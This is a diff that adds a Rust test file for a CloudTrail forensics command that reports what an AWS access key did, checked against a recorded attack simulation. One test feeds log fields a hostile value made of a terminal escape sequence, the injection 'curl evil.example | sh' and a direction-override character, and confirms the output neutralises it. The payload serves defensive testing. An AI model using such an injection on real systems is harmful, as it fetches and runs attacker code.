@@ -1,0 +1,206 @@
+//! What did a key do?
+
+use std::{
+    collections::{BTreeMap, BTreeSet},
+    fs,
+    process::Command,
+};
+
+use flate2::read::MultiGzDecoder;
+use serde_json::{Value, json};
+
+use crate::{
+    Run, folder, run, scan, scan_in, scan_stream, stored,
+    support::{gzip, local_aws::Account, path, python},
+};
+
+/// A real attack simulation.
+const ATTACK: &str = "tests/data/invictus/CloudTrail";
+const KEY: &str = "AKIATFQR7NSC8Q4X20BJ";
+
+fn trace(arguments: &[&str]) -> (Value, Run) {
+    let run = scan(&[&["trace"], arguments, &["--format", "json"]].concat());
+    let result =
+        serde_json::from_str(&run.stdout).unwrap_or_else(|error| panic!("{error}: {} {}", run.stdout, run.stderr));
+    (result, run)
+}
+
+/// All records of the attack, by a plain parse.
+fn records() -> Vec<Value> {
+    let files = fs::read_dir(path(ATTACK)).unwrap().map(|file| fs::read(file.unwrap().path()).unwrap());
+    let records = files.flat_map(|file| {
+        let mut whole: Value = serde_json::from_reader(MultiGzDecoder::new(&file[..])).unwrap();
+        std::mem::take(whole["Records"].as_array_mut().unwrap())
+    });
+    records.collect()
+}
+
+#[test]
+fn every_number_of_a_real_attack_equals_a_plain_count() {
+    let records = records();
+    let mut by_key: BTreeMap<&str, Vec<&Value>> = BTreeMap::new();
+    for record in &records {
+        if let Some(key) = record["userIdentity"]["accessKeyId"].as_str() {
+            by_key.entry(key).or_default().push(record);
+        }
+    }
+    let mut busiest: Vec<_> = by_key.into_iter().collect();
+    busiest.sort_by_key(|(_, records)| std::cmp::Reverse(records.len()));
+    assert!(busiest.len() > 3 && busiest[0].1.len() > 50 && busiest[1].1.len() > 30);
+    for (key, records) in &busiest[..3] {
+        let (result, run) = trace(&[key, ATTACK, "--no-follow"]);
+        assert_eq!(run.status, Some(1), "{}", run.stderr);
+        let is_denied = |record: &&&Value| {
+            record["errorCode"]
+                .as_str()
+                .is_some_and(|code| code.ends_with("AccessDenied") || code.ends_with("UnauthorizedOperation"))
+        };
+        let times: BTreeSet<&str> = records.iter().filter_map(|record| record["eventTime"].as_str()).collect();
+        let summary = &result["summary"];
+        assert_eq!(summary["calls"], records.len());
+        assert_eq!(summary["denied"], records.iter().filter(is_denied).count());
+        assert_eq!(summary["succeeded"], records.iter().filter(|record| record["errorCode"].is_null()).count());
+        assert_eq!(
+            (summary["firstEventTime"].as_str(), summary["lastEventTime"].as_str()),
+            (times.first().copied(), times.last().copied())
+        );
+        for (list, name, field) in [
+            ("services", "eventSource", "eventSource"),
+            ("sourceIPAddresses", "value", "sourceIPAddress"),
+            ("userAgents", "value", "userAgent"),
+            ("regions", "awsRegion", "awsRegion"),
+            ("accounts", "accountId", "recipientAccountId"),
+        ] {
+            let mut expected: BTreeMap<&str, u64> = BTreeMap::new();
+            records.iter().for_each(|record| *expected.entry(record[field].as_str().unwrap()).or_default() += 1);
+            let found: BTreeMap<&str, u64> = result[list]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|row| (row[name].as_str().unwrap(), row["calls"].as_u64().unwrap()))
+                .collect();
+            assert_eq!(found, expected, "{key} {list}");
+        }
+    }
+}
+
+#[test]
+fn generated_archives_equal_a_plain_parse_in_any_order_of_files() {
+    let mut command = Command::new(python());
+    command
+        .arg(path("cli/tests/cli/trace_oracle.py"))
+        .arg("compare")
+        .arg(env!("CARGO_BIN_EXE_quarantine-scan"))
+        .arg("40");
+    let compared = run(command);
+    assert_eq!(compared.status, Some(0), "{}{}", compared.stdout, compared.stderr);
+}
+
+#[test]
+fn json_obeys_its_schema_and_the_timeline_has_every_call() {
+    let (result, _) = trace(&[KEY, ATTACK]);
+    let calls = result["summary"]["calls"].as_u64().unwrap();
+    assert!(calls > 50 && result["leftBehind"].as_array().unwrap().len() >= 3);
+    let lines = scan(&["trace", KEY, ATTACK, "--format", "ndjson"]);
+    let lines: Vec<Value> = lines.stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    assert_eq!(lines.len() as u64, calls);
+    assert!(lines.windows(2).all(|two| two[0]["eventTime"].as_str() <= two[1]["eventTime"].as_str()));
+    let csv = scan(&["trace", KEY, ATTACK, "--format", "csv"]);
+    assert_eq!(csv.stdout.lines().count() as u64, calls + 1);
+
+    let validator = folder("trace").join("result.json");
+    fs::write(&validator, result.to_string() + "\n").unwrap();
+    let mut command = Command::new(python());
+    command.arg(path("tools/validate_alerts.py")).arg("trace").stdin(fs::File::open(&validator).unwrap());
+    assert_eq!(run(command).stdout, "ok\n");
+}
+
+#[test]
+fn standard_input_is_read_twice() {
+    let key = "AKIAIOSFODNN7EXAMPLE";
+    let user = json!({ "type": "IAMUser", "accessKeyId": key, "userName": "a", "accountId": "123456789012" });
+    let issued = json!({
+        "eventID": "1", "eventTime": "2026-11-24T03:00:00Z", "eventSource": "iam.amazonaws.com", "eventName": "CreateAccessKey",
+        "userIdentity": user, "recipientAccountId": "123456789012", "responseElements": { "accessKey": { "accessKeyId": "AKIAI44QH8DHBEXAMPLE" } },
+    });
+    let mut used = issued.clone();
+    used["eventID"] = json!("2");
+    used["eventName"] = json!("ListUsers");
+    used["responseElements"] = Value::Null;
+    used["userIdentity"]["accessKeyId"] = json!("AKIAI44QH8DHBEXAMPLE");
+    // The issued key is used first.
+    let traced = scan_stream(&["trace", key, "-", "--format", "json"], &stored(&[used, issued]));
+    let result: Value = serde_json::from_str(&traced.stdout).unwrap();
+    assert_eq!((&result["summary"]["calls"], traced.status), (&json!(2), Some(1)), "{}", traced.stderr);
+    assert_eq!(result["identities"][1]["parent"], key);
+}
+
+#[test]
+fn what_is_no_identity_is_refused_and_one_without_calls_says_so() {
+    let refused = scan(&["trace", "ci-deploy", ATTACK]);
+    assert_eq!(refused.status, Some(2));
+    assert!(
+        refused.stderr.contains("is neither an access key id (AKIA… or ASIA…) nor the ARN of a user"),
+        "{}",
+        refused.stderr
+    );
+    let nothing = scan(&["trace", "AKIAIOSFODNN7EXAMPLE", ATTACK]);
+    assert_eq!(nothing.status, Some(0));
+    assert!(
+        nothing.stdout.starts_with("These identities made no call that was found. Not seen: calls outside"),
+        "{}",
+        nothing.stdout
+    );
+    assert!(nothing.stderr.contains("no call of these identities was found in 4 log files"), "{}", nothing.stderr);
+    let broken = folder("trace-broken").join("x.json.gz");
+    fs::write(&broken, &gzip(b"{\"Records\":[")[..20]).unwrap();
+    let unread = scan(&["trace", KEY, ATTACK, broken.to_str().unwrap(), "--format", "json"]);
+    assert_eq!(unread.status, Some(2));
+    let result: Value = serde_json::from_str(&unread.stdout).unwrap();
+    assert_eq!(
+        (&result["coverage"]["partial"], result["coverage"]["unread"].as_array().unwrap().len()),
+        (&json!(true), 1)
+    );
+}
+
+#[test]
+fn nothing_in_a_log_acts_on_a_terminal_or_a_shell() {
+    let hostile = "x\u{1b}[2J'; curl evil.example | sh #\u{202e}";
+    let record = json!({
+        "eventID": hostile, "eventTime": "2026-11-24T03:00:00Z", "eventSource": "iam.amazonaws.com", "eventName": "CreateUser",
+        "userIdentity": { "type": "IAMUser", "accessKeyId": "AKIAIOSFODNN7EXAMPLE", "userName": hostile, "arn": hostile },
+        "recipientAccountId": "123456789012", "sourceIPAddress": hostile, "userAgent": hostile, "awsRegion": hostile,
+        "requestParameters": { "userName": hostile },
+    });
+    for format in ["table", "json", "ndjson", "csv"] {
+        let traced = scan_stream(
+            &["trace", "AKIAIOSFODNN7EXAMPLE", "-", "--format", format],
+            &stored(std::slice::from_ref(&record)),
+        );
+        assert_eq!(traced.status, Some(1), "{}", traced.stderr);
+        assert!(!traced.stdout.contains(['\u{1b}', '\u{202e}']), "{format}: {}", traced.stdout);
+        if format == "table" {
+            let undo = traced.stdout.lines().find(|line| line.contains("undo: ")).unwrap();
+            assert!(undo.contains("delete-user --user-name='<userName>'") && !undo.contains("evil"), "{undo}");
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_bucket_gives_what_its_files_give() {
+    let account = Account::new().await;
+    for file in fs::read_dir(path(ATTACK)).unwrap() {
+        let file = file.unwrap();
+        let name = file.file_name().into_string().unwrap();
+        let key = format!("AWSLogs/218007301253/CloudTrail/us-east-1/2023/07/10/{name}");
+        account.put(&key, fs::read(file.path()).unwrap()).await;
+    }
+    let bucket = format!("s3://{}", account.bucket);
+    let traced = scan_in(&account, &["trace", KEY, &bucket, "--format", "json"]);
+    let mut found: Value = serde_json::from_str(&traced.stdout).unwrap();
+    let (mut expected, _) = trace(&[KEY, ATTACK]);
+    // The time at which an alert was made is no part of the comparison.
+    found["quarantine"] = json!([]);
+    expected["quarantine"] = json!([]);
+    assert_eq!(found, expected, "{}", traced.stderr);
+}
